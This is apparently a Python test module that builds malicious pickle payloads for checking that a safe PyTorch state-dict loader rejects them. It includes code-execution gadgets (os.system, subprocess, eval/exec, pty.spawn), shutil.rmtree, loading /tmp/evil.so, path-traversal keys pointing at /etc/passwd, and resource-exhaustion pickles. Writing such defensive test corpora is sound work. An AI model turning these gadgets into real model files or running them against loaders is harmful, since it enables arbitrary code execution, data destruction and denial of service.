"""Programs that somebody may put where a state dict is expected."""

import struct

from tests.fsnet_jax.weights import torch_writer as tw

GOOD = tw.tensor('0', 'FloatStorage', 4, (4,), (1,))
VALUES = struct.pack('<4f', 1, 2, 3, 4)


def getattr_(target, name):
  return tw.call('builtins', 'getattr', target, name)


def calls(canary):
  """Values that would make the file `canary`, or worse, if they were run.

  Args:
    canary: a path.

  Returns:
    By title, instructions that leave one value on the stack.
  """
  shell, python = f'touch {canary}', f'open({str(canary)!r}, "w")'
  module = tw.call('builtins', '__import__', 'os')
  one = ['touch', str(canary)]
  return {
    'os.system': tw.call('os', 'system', shell),
    'posix.system': tw.call('posix', 'system', shell),
    'nt.system': tw.call('nt', 'system', shell),
    'os.execv': tw.call('os', 'execv', '/bin/touch', one),
    'os.path as a way to os': tw.call('os.path', 'os.system', shell),
    'subprocess.Popen': tw.call('subprocess', 'Popen', one),
    'subprocess.check_output': tw.call('subprocess', 'check_output', one),
    'pty.spawn': tw.call('pty', 'spawn', one),
    'commands.getoutput': tw.call('commands', 'getoutput', shell),
    'builtins.eval': tw.call('builtins', 'eval', python),
    'builtins.exec': tw.call('builtins', 'exec', python),
    '__builtin__.execfile': tw.call('__builtin__', 'execfile', '/tmp/x.py'),
    'builtins.open': tw.call('builtins', 'open', str(canary), 'w'),
    'io.open': tw.call('io', 'open', str(canary), 'w'),
    '_io.FileIO': tw.call('_io', 'FileIO', str(canary), 'w'),
    'builtins.__import__': module,
    'importlib.import_module': tw.call('importlib', 'import_module', 'evil'),
    'runpy.run_path': tw.call('runpy', 'run_path', '/tmp/x.py'),
    'getattr of an import': getattr_(module, 'system'),
    'getattr of a name': getattr_(tw.name('os', 'path'), 'join'),
    'globals of a stand-in': tw.name(
      'torch._utils', '_rebuild_tensor_v2.__globals__'
    ),
    'class of a stand-in': tw.name('collections', 'OrderedDict.__class__'),
    'reduce of a stand-in': tw.name('collections', 'OrderedDict.__reduce__'),
    'protocol 4': tw.value('os') + tw.value('popen') + b'\x93',
    'new object': tw.name('subprocess', 'Popen') + tw.value((one,)) + b'\x81',
    'new object with words': (
      tw.name('subprocess', 'Popen') + tw.value((one,)) + b'}\x92'
    ),
    'shutil.rmtree': tw.call('shutil', 'rmtree', str(canary)),
    'ctypes.CDLL': tw.call('ctypes', 'CDLL', '/tmp/evil.so'),
    'socket.create_connection': tw.call('socket', 'create_connection', 'x'),
    'urllib.request.urlopen': tw.call('urllib.request', 'urlopen', 'http://x'),
    'webbrowser.open': tw.call('webbrowser', 'open', 'http://x'),
    'operator.methodcaller': tw.call('operator', 'methodcaller', 'system'),
    'pickle.loads': tw.call('pickle', 'loads', '...'),
    'marshal.loads': tw.call('marshal', 'loads', '...'),
    'torch.load': tw.call('torch', 'load', str(canary)),
    'torch.hub.load': tw.call('torch.hub', 'load', 'evil/evil', 'x'),
    'torch.serialization.load': tw.call('torch.serialization', 'load', 'x'),
    'torch.os.system': tw.call('torch', 'os.system', shell),
    'numpy.load': tw.call('numpy', 'load', str(canary)),
    'numpy runstring': tw.call(
      'numpy.testing._private.utils', 'runstring', python, {}
    ),
    'sys.exit': tw.call('sys', 'exit', 0),
    'sys.modules': tw.name('sys', 'modules'),
    'code': tw.call('code', 'InteractiveInterpreter'),
    'timeit.timeit': tw.call('timeit', 'timeit', python),
    'cProfile.run': tw.call('cProfile', 'run', python),
    'pdb.run': tw.call('pdb', 'run', python),
    'threading.Thread': tw.call('threading', 'Thread'),
    'multiprocessing': tw.call('multiprocessing.util', 'spawnv_passfds', 'x'),
  }


def inert():
  """Values whose calls nobody can tell to be harmful: they are not made."""
  return {
    'getattr chain': getattr_(
      getattr_(getattr_('', '__class__'), '__base__'), '__subclasses__'
    ),
    'somebody else': tw.call('evil', 'Payload', 'x'),
    'call of a result': tw.call('evil', 'make') + tw.value(('x',)) + b'R',
    'state of a result': tw.call('evil', 'make') + tw.value({'a': 1}) + b'b',
    'items of a result': tw.call('evil', 'Dict') + tw.value('k') + b'Ns',
    'list of a result': tw.call('evil', 'List') + b'(NNe',
    'set of a result': b'\x8f(NN\x90',
    'functools.partial': tw.call('functools', 'partial', 'x'),
    'copyreg': tw.call('copyreg', '_reconstructor', tw.name('a', 'B')),
    'type': tw.call('builtins', 'type', 'X', (), {'__del__': 1}),
    'key of a dict': b'}' + tw.call('evil', 'Key') + b'Ns',
    'keys that collide': tw.value(
      {i * ((1 << 61) - 1): None for i in range(1, 500)}
    ),
    'a dict in itself': b'}q\x07' + tw.value('x') + b'h\x07s',
    'a storage of its own kind': tw.value(
      ('storage', tw.name('evil', 'Storage'), '0', 'cpu', 4)
    )
    + b'Q',
  }


def structures():
  """Whole pickles that are wrong, by title."""
  reference = ('storage', tw.name('torch', 'FloatStorage'), '0', 'cpu', 4)

  def storage(**changes):
    parts = dict(zip(('tag', 'kind', 'key', 'device', 'count'), reference))
    parts.update(changes)
    return tw.value(tuple(parts.values())) + b'Q'

  def tensor(storage):
    arguments = (storage, 0, (4,), (1,), False, None)
    return tw.call('torch._utils', '_rebuild_tensor_v2', *arguments)

  bodies = {
    'INST': b'(ievil\nPayload\n',
    'OBJ': b'(' + tw.name('evil', 'Payload') + b'o',
    'EXT1': b'\x82\x01',
    'EXT4': b'\x84\x01\x00\x00\x00',
    'out of band': b'\x97',
    'persistent text': b'Pevil\n',
    'persistent string': tw.value('evil') + b'Q',
    'persistent of three': tw.value(('storage', 1, '0')) + b'Q',
    'another tag': storage(tag='module'),
    'kind as text': storage(kind='FloatStorage'),
    'kind that is called': storage(kind=tw.call('collections', 'OrderedDict')),
    'key as number': storage(key=0),
    'key as a path': tensor(storage(key='../../../etc/passwd')),
    'absolute key': tensor(storage(key='/etc/passwd')),
    'negative count': tensor(storage(count=-4)),
    'count as text': tensor(storage(count='4')),
    'count as bool': tensor(storage(count=True)),
    'count without end': tensor(storage(count=1 << 2000)),
    'count of an exabyte': tensor(storage(count=1 << 60)),
    'a view of a storage': (tw.value((*reference, ('0', 0, 2))) + b'Q'),
    'no storage': tensor(tw.value(3)),
    'state of a tensor': GOOD + b'}b',
    'a tensor called': GOOD + b')R',
    'a text called': tw.value('x') + b')R',
    'a storage called': tw.name('torch', 'FloatStorage') + b')R',
    'arguments in a list': (
      tw.name('collections', 'OrderedDict') + tw.value([]) + b'R'
    ),
    'pairs of one': tw.call('collections', 'OrderedDict', [(1,)]),
    'memo without end': b'}r\xff\xff\xff\xff',
    'memo that is empty': b'h\x07',
    'stack that is empty': b't',
    'tuple of the mark': b'(\x85',
    'a key alone': b'}(' + tw.value('x') + b'u',
    'item of a text': tw.value('x') + tw.value('y') + b'Ns',
    'text of an exabyte': b'\x8d' + struct.pack('<Q', 1 << 60),
    'bytes of an exabyte': b'\x8e' + struct.pack('<Q', 1 << 60),
    'number without end': b'\x8b' + struct.pack('<i', (1 << 31) - 1),
    'number of negative length': b'\x8b' + struct.pack('<i', -1),
    'frame of an exabyte': b'\x95' + struct.pack('<Q', 1 << 60),
    'protocol 9': b'\x80\x09N',
    'unknown instruction': b'\xff',
    'deep tuples': b'(' * 90_000 + b't' * 90_000,
    'deep lists': b']' * 40_000 + b'a' * 39_999,
    'doubled': b']q\x00h\x00h\x00\x86' + b'q\x00h\x00h\x00\x86' * 500,
    'a list in itself': b']q\x00h\x00a',
    'a stack without end': b'N' * 200_000,
    'memo of everything': b'N' + b'\x94' * 12_000,
  }
  return {title: b'\x80\x02' + body + b'.' for title, body in bodies.items()}
